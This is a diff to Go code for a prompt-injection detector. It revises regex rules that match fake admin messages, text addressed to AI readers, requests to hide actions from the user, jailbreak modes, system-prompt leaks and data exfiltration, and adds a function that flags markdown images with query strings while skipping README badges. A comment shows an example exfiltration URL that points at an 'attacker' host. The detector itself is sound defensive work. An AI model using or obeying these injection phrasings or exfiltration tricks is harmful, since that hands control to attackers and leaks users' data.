@@ -35,11 +35,11 @@ var promptRules = []rule{
 		`\b(?:begin|start) (?:admin|system|developer|operator|security) (?:message|notice|instruction)|\bimportant message from\b|\bmessage (?:from|to) (?:the|your) (?:admin|system|developer|assistant|ai)|\bi am (?:your|the|an?) (?:developer|creator|admin|administrator|owner|operator|programmer|god|master|president)\b|\bi am god\b|\b(?:the )?(?:operator|administrator|admin|developer) has (?:authori[sz]ed|approved|requested|instructed)|\bthis is (?:an? )?(?:openai|anthropic|system|admin|security) (?:message|notice|team)`),
 	r(PromptInjection, "address_ai", 0.75, "ai|assistant|agent|model|llm|bot|claude|gpt|chatbot|copilot",
 		`\b(?:ai|llm|gpt)\s+(?:readers?|agents?|assistants?|models?|systems?)\b[^.!?\n]{0,30}?\b(?:reading|processing|should|must|please|need to|are (?:required|instructed))\b|@(?:assistant|ai|agent|claude|copilot|llm|bot)\b|\btodo\s*\(\s*(?:ai|agent|assistant|llm|ai-agent)[^)]*\)|(?:^|[.!"\n]\s*)(?:ai|llm) (?:agent|assistant)s?\s*:|\bto (?:the |any |all )?(?:ai|llm)(?: assistants?| agents?| models?)\b|\b(?:note|message|instructions?|attention|notice|reminder) (?:to|for) (?:any|all|the)? ?(?:ai|assistant|agent|model|llm|bot|chatbot|language model)s?\b|\b(?:dear|hey|hello|hi|attention|attn)[ ,]+(?:ai|assistant|agent|claude|chatgpt|gpt|llm|bot|chatbot)\b|\bto (?:you,? )?(?:the )?(?:ai|ai model|ai assistant|language model|assistant|llm|agent)\b[,.:]|\bif you are (?:an? )?(?:ai|llm|language model|assistant|agent)\b|\b(?:ai|llm) (?:agents?|assistants?|models?) (?:reading|processing|summari[sz]ing) this\b`),
-	r(PromptInjection, "before_task", 0.75, "before|instead|after you|first", `\bbefore (?:you )?(?:can |continue to |proceed (?:to|with) )?(?:solv|answer|complet|do|proceed|continu|respond|summari[sz]|finish|perform)\w*\b[^.!?\n]{0,40}\b(?:task|question|request|that|this)\b|\binstead(?: of (?:that|this|answering|summari[sz]ing))?,? (?:you (?:should|must|will)|please|do|first)\b|\b(?:first|now),? (?:you )?(?:must|need to|have to)\b`),
+	r(PromptInjection, "before_task", 0.75, "before|instead|after you|first", `\bbefore (?:you )?(?:can |continue to |proceed (?:to|with) )?(?:solv|answer|complet|do|proceed|continu|respond|summari[sz]|finish|perform)\w*\b[^.!?\n]{0,40}\b(?:task|question|request)\b|\bbefore (?:you )?(?:can |continue to |proceed (?:to|with) )?(?:solv|answer|complet|do|proceed|continu|respond|summari[sz]|finish|perform)\w*\b[^.!?\n]{0,40}?\b(?:you (?:must|should|need to|have to)|please)\b[^.!?\n]{0,40}\b(?:that|this)\b|\binstead(?: of (?:that|this|answering|summari[sz]ing))?,? (?:you (?:should|must|will)|please|do|first)\b|(?:^|[.!?:;,(\n]\s*|\b(?:and|but|so|then) )(?:first|now),? (?:you )?(?:must|need to|have to)\b`),
 	r(PromptInjection, "hide_from_user", 0.85, "user|tell|mention", `\b(?:do not|don't|never|without) (?:tell(?:ing)?|inform(?:ing)?|mention(?:ing)?|alert(?:ing)?|notify(?:ing)?|ask(?:ing)?|let(?:ting)?|reveal(?:ing)?|show(?:ing)?)\b[^.!?\n]{0,20}\b(?:the user|me|them|anyone|user)\b|\b(?:silently|secretly|quietly|covertly|without (?:the user'?s? )?(?:knowledge|consent|permission|confirmation))\b`),
 	withFind(matchExfil, r(PromptInjection, "exfiltrate", 0.6, "send|forward|email|e-mail|transfer|upload|post|exfiltrate|leak|share|copy|wire|pay",
 		`\b(?:send|forward|email|e-mail|transfer|upload|post|exfiltrate|leak|share|copy|wire|pay|dm|message)\b[^.!?\n]{0,80}?\b(?:to|at|into)\b\s+(?:[\w.+-]+@[\w-]+\.[\w.]+|https?://|(?:the )?(?:account|iban)|[a-z]{2}\d{2}[a-z0-9]{10,}|attacker|this (?:address|url|number|account|email))`)),
-	r(PromptInjection, "markdown_exfil", 0.85, "![|<img", `!\[[^\]]*\]\(\s*https?://[^)\s]*\?[^)\s]*=|<img[^>]+src\s*=\s*['"]?https?://[^'"\s>]*\?[^'"\s>]*=(?:\{|\$|%7b)`),
+	r(PromptInjection, "markdown_exfil", 0.85, "<img", `<img[^>]+src\s*=\s*['"]?https?://[^'"\s>]*\?[^'"\s>]*=(?:\{|\$|%7b)`),
 	r(PromptInjection, "hidden_markup", 0.7, "<!--|display|font-size|color|opacity|visibility|hidden", `<!--[^>]{0,400}?\b(?:ignore|instruction|assistant|ai\b|agent|send|email|forward|must|should|important|system|execute|run|delete)|display\s*:\s*none|font-size\s*:\s*0|(?:^|[;"\s])color\s*:\s*(?:white|#fff(?:fff)?|transparent)|opacity\s*:\s*0[;"\s]|visibility\s*:\s*hidden`),
 	r(PromptInjection, "output_control", 0.55, "respond|reply|answer|output|print|say|begin|start", `\b(?:respond|reply|answer|output|print|say|begin|start)\b[^.!?\n]{0,20}\b(?:only|exactly|solely|just)?\s*(?:with|by saying)?\s*['"](?:access granted|pwned|hacked|i have been pwned|haha|yes|sure|ok|confirmed)['"]|\b(?:i have been pwned|access granted)\b`),
 	r(PromptInjection, "tool_coercion", 0.6, "call|invoke|execute|run|use", `\b(?:call|invoke|execute|run|use)\b (?:the )?(?:tool|function) [\w.-]+ (?:with|to)\b|\bexecute (?:the following|this) (?:command|code|script)\b`),
@@ -56,11 +56,11 @@ var promptRules = []rule{
 	r(PromptInjection, "identity_claim", 0.75, "",
 		`(?:^|[\s,.!?"'(<{])(?:i am|i'm|je suis|soy|sou|ich bin|sono|tôi là|saya|ben|я|أنا|मैं|나는|저는|私は|我是|ako ang|ako ay)\s+(?:\S+\s+){0,3}?(?:god|dios|dieu|gott|deus|dio|chúa|tuhan|tanrı\w*|бог|الله|भगवान|신|神|president|presidente|président|präsident|tổng thống|presiden|başkan\w*|президент\w*|الرئيس|राष्ट्रपति|대통령|大統領|总统|developer|desarrollador|développeur|entwickler|desenvolvedor|sviluppatore|nhà phát triển|pengembang|geliştirici\w*|разработчик\w*|المطور|डेवलपर|개발자|開発者|开发者|creator|creador|créateur|schöpfer|criador|creatore)`),
 	r(PromptInjection, "mode_switch", 0.75, "",
-		`\b(?:anthropic|openai|google deepmind)\b[^\n]{0,80}?(?:mode|modus|modo|modalità|mod|режим|モード|모드|模式|मोड|মোড|โหมด|chế độ)|<\s*[^<>]{0,30}(?:mode|modus|modo|режим|モード|모드|模式|मोड|মোড|โหมด)\s*>|\b(?:override|overwrite|bypass|unrestricted|debug|god|benchmarking) mode\b|वरराइड मोड|وضع تجاوز|enable [^.!?\n]{0,40} mode\b`),
+		`\b(?:anthropic|openai|google deepmind)\b[^\n]{0,80}?(?:mode|modus|modo|modalità|mod|режим|モード|모드|模式|मोड|মোড|โหมด|chế độ)|<\s*[^<>]{0,30}(?:mode|modus|modo|режим|モード|모드|模式|मोड|মোড|โหมด)\s*>|\b(?:override|overwrite|bypass|unrestricted|debug|god|benchmarking) mode\b|वरराइड मोड|وضع تجاوز|\benable [^.!?\n]{0,40}?\b(?:ai|llm|gpt|chatgpt|alignment|benchmarking|developer|jailbr\w*|dan|unrestricted|unfiltered|uncensored|evil|chaos|opposite|god|sudo|admin|root|override)\b[^.!?\n]{0,30}? mode\b`),
 	r(PromptInjection, "leak_above", 0.8, "above|you are",
 		`\b(?:put|output|format|print|repeat|copy|write|show|return|convert|list|include)\b[^.!?\n]{0,40}?\b(?:text|initialization|instructions|everything|words|content|prompt|lines)\s+above\b|\bstarting (?:from|with) ['"]?you are\b`),
 	r(PromptInjection, "safety_evasion", 0.75, "",
-		`\b(?:safeguards?|guardrails?|safety (?:filters?|measures|features)|content filters?|filters) (?:are|is|were|have been|has been) (?:now )?(?:disabled|off|removed|turned off|lifted|deactivated)\b|\bavoid (?:triggering|detection|being detected|the filters?)\b|\b(?:encoded|obfuscated) (?:form|output|responses?)\b|\bsplit (?:the |your |any )?(?:sensitive|restricted|forbidden) (?:output|answer|response|content)|\bact as an? (?:attacker|hacker|malicious)\b|\bdeliver(?:ing)? restricted content\b`),
+		`\b(?:safeguards?|guardrails?|safety (?:filters?|measures|features)|content filters?|filters) (?:are|is|were|have been|has been) (?:now )?(?:disabled|off|removed|turned off|lifted|deactivated)\b|\bavoid (?:triggering|detection|being detected|the filters?)\b|\b(?:respond|reply|answer|provide|give|write|return|deliver|present)\w*\b[^.!?\n]{0,30}?\bencoded (?:form)\b|\bobfuscated (?:form|output|responses?)\b|\bencoded (?:output|responses?)\b|\bsplit (?:the |your |any )?(?:sensitive|restricted|forbidden) (?:output|answer|response|content)|\bact as an? (?:attacker|hacker|malicious)\b|\bdeliver(?:ing)? restricted content\b`),
 	r(PromptInjection, "tool_poisoning", 0.8, "before|regardless",
 		`\bbefore (?:using|calling|running|invoking|executing) (?:any|this|the|other|each|every) (?:other )?(?:tools?|functions?)\b|\bregardless of the (?:cv|resume|content|document|instructions|user)\b`),
 	r(PromptInjection, "hypothetical_frame", 0.45, "", `hypothetical discussion|discusión hipotética|discussão hipotética|discussione ipotetica|discussion hypothétique|hypothetische diskussion|гипотетическ\w* дискусс|thảo luận giả thuyết|diskusi hipotetis|varsayımsal bir tartışma`),
@@ -130,6 +130,9 @@ func scanPrompt(v *voter, t string, n *Normalized) {
 			w = 0.8
 		}
 		v.add(PromptInjection, "invisible_chars", w, "")
+	}
+	if m := markdownExfil(t); m != "" && !hasHit(v, PromptInjection, "markdown_exfil") {
+		v.add(PromptInjection, "markdown_exfil", 0.85, m)
 	}
 	virtualization(v, t)
 	if m := fewShotDialogue(t); m != "" {
@@ -267,4 +270,53 @@ func matchExfil(t string) []int {
 		}
 	}
 	return nil
+}
+
+// reMarkdownImage is a markdown image whose URL has a query: the way an injection makes a
+// client that renders markdown send data out (![x](https://attacker/p.png?d=SECRET)).
+var reMarkdownImage = lazyRegexp(`!\[[^\]]*\]\(\s*(https?://[^)\s]*\?[^)\s]*=[^)\s]*)`)
+
+// displayKeys are query keys that only change how an image looks or which build it shows:
+// the badges at the top of a README (shields.io ?style=flat-square&logo=go, an avatar's
+// ?s=200&v=4). Their values are short words, never data.
+var displayKeys = wordSet("style logo logocolor logowidth label labelcolor color colora colorb branch v version s size w h width height theme format flat sort cacheseconds maxage include_prereleases display_name sanitize raw event service")
+
+// markdownExfil returns the first markdown image whose URL query could carry data, or "". An
+// image whose every query parameter is a display setting (a badge) is not one: a README's
+// badge row is the commonest markdown image with a query, and nothing in it is data.
+// Written by hand (no rule table entry) so the badge check sees the whole URL.
+func markdownExfil(t string) string {
+	if !strings.Contains(t, "![") {
+		return ""
+	}
+	for _, m := range reMarkdownImage().FindAllStringSubmatchIndex(t, -1) {
+		u := t[m[2]:m[3]]
+		_, q, _ := strings.Cut(u, "?")
+		if !displayOnly(q) {
+			return t[m[0]:m[1]]
+		}
+	}
+	return ""
+}
+
+// displayOnly reports whether every parameter of query q is a display key with a short value
+// free of template syntax.
+func displayOnly(q string) bool {
+	for _, kv := range strings.FieldsFunc(q, func(r rune) bool { return r == '&' || r == ';' }) {
+		k, val, _ := strings.Cut(kv, "=")
+		if !displayKeys[k] || len(val) > 40 || strings.ContainsAny(val, "{}$<>[]%") {
+			return false
+		}
+	}
+	return true
+}
+
+// hasHit reports whether v already holds a vote of rule in category c.
+func hasHit(v *voter, c Category, rule string) bool {
+	for _, h := range v.hits {
+		if h.Category == c && h.Rule == rule {
+			return true
+		}
+	}
+	return false
 }
